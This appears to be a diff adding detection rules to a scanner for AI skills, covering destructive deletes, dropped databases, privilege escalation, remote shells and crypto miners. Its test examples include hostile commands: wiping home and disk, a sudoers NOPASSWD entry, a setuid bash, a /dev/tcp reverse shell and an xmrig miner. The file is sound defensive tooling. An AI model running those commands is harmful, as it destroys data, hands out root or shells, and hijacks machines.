@@ -1,0 +1,100 @@
+// Destruction, privilege changes, remote shells and miners: behaviour with no benign reading in a
+// skill, whatever the encoding it arrives in. The purpose softens only what a stated job explains
+// (a database reset skill dropping its own dev database; a docker set-up adding the user to the
+// docker group as Docker documents).
+import type { Rule, Severity } from "../types";
+import { where } from "./util";
+
+export const SYSTEM: Rule[] = [
+  {
+    id: "destroy-broad",
+    severity: "critical",
+    category: "destructive",
+    description: "deletes or overwrites the home directory, the root filesystem, system folders or a disk",
+    remediation: "Delete only what the skill created, by exact path, inside its own working folder.",
+    judge(skill, hit) {
+      for (const d of skill.of("delete")) {
+        if (d.ctx.illustrative || (d.scope !== "home" && d.scope !== "root" && d.scope !== "system" && d.scope !== "disk" && d.scope !== "cloud")) continue;
+        hit({ loc: d.loc, excerpt: `deletes ${d.path} (${d.scope})${where(d)}` });
+      }
+    },
+    examples: {
+      hit: ["```bash\nrm -rf ~/\n```", "```bash\nsudo dd if=/dev/zero of=/dev/sda bs=1M\n```"],
+      miss: ["```bash\nrm -rf node_modules dist\n```"],
+    },
+  },
+  {
+    id: "destroy-data",
+    severity: "critical",
+    category: "destructive",
+    description: "drops whole databases, flushes data stores, or rewrites git history on a shared remote",
+    remediation: "Never drop databases or force-push; if the skill resets a development database, name it and ask first.",
+    judge(skill, hit) {
+      for (const d of skill.of("delete")) {
+        if (d.ctx.illustrative || (d.scope !== "database" && d.scope !== "git-history")) continue;
+        const explained = d.scope === "database" ? skill.purpose.explains("database") : skill.purpose.explains("git-hooks") || skill.purpose.mentions("git");
+        hit({ loc: d.loc, excerpt: `${d.scope === "database" ? "drops" : "rewrites"} ${d.path}${where(d)}`, severity: explained ? "medium" : d.scope === "database" ? "critical" : "high" });
+      }
+    },
+    examples: {
+      hit: ["```bash\npsql -c 'DROP DATABASE production'\n```"],
+      miss: ["```bash\npsql -c 'SELECT 1'\n```"],
+    },
+  },
+  {
+    id: "privesc-change",
+    severity: "critical",
+    category: "privilege_escalation",
+    description: "raises privileges: sudoers or NOPASSWD entries, setuid binaries, new admin users, UAC bypass, kernel modules, disabled security controls",
+    remediation: "A skill never changes who may run what as root, or turns security controls off.",
+    judge(skill, hit) {
+      for (const p of skill.of("privilege")) {
+        if (p.ctx.illustrative) continue;
+        let severity: Severity = "critical";
+        if (p.what === "disable-security" || p.what === "world-writable-system" || p.what === "capabilities" || p.what === "container-escape" || p.what === "sudo-pipe") severity = "high";
+        if (p.what === "add-admin-user" && /\bdocker\b/.test(p.detail) && skill.purpose.explains("containers")) severity = "medium";
+        if (severity !== "critical" && skill.purpose.explains("system-admin")) severity = "medium";
+        hit({ loc: p.loc, excerpt: `${p.what}: ${p.detail}${where(p)}`, severity });
+      }
+    },
+    examples: {
+      hit: ["```bash\necho 'ALL ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers\n```", "```bash\nsudo chmod u+s /bin/bash\n```"],
+      miss: ["```bash\nchmod +x scripts/run.sh\n```"],
+    },
+  },
+  {
+    id: "remote-shell",
+    severity: "critical",
+    category: "network",
+    description: "opens a remote shell: a shell or interpreter wired to a network connection (reverse or bind shell, reverse tunnel)",
+    remediation: "Remove it; no skill needs to give a remote party a shell.",
+    judge(skill, hit) {
+      for (const r of skill.of("remote-shell")) {
+        if (r.ctx.illustrative) continue;
+        hit({ loc: r.loc, excerpt: `${r.detail}${where(r)}` });
+      }
+    },
+    examples: {
+      hit: ["```bash\nbash -i >& /dev/tcp/198.51.100.4/4444 0>&1\n```"],
+      miss: ["```bash\nssh deploy@build.example.com 'systemctl restart app'\n```"],
+    },
+  },
+  {
+    id: "crypto-mining",
+    severity: "critical",
+    category: "mining",
+    description: "runs or configures a cryptocurrency miner (miner binaries, stratum pools, wallet addresses)",
+    remediation: "Remove the miner.",
+    judge(skill, hit) {
+      for (const m of skill.of("mine")) {
+        if (m.ctx.illustrative) continue;
+        hit({ loc: m.loc, excerpt: `${m.detail}${where(m)}`, severity: skill.purpose.explains("mining") ? "high" : "critical" });
+      }
+    },
+    examples: {
+      hit: ["```bash\n./xmrig -o stratum+tcp://pool.invalid:3333 -u 4AbC --donate-level 1\n```"],
+      miss: ["```bash\nnvidia-smi --query-gpu=utilization.gpu --format=csv\n```"],
+    },
+  },
+];
+
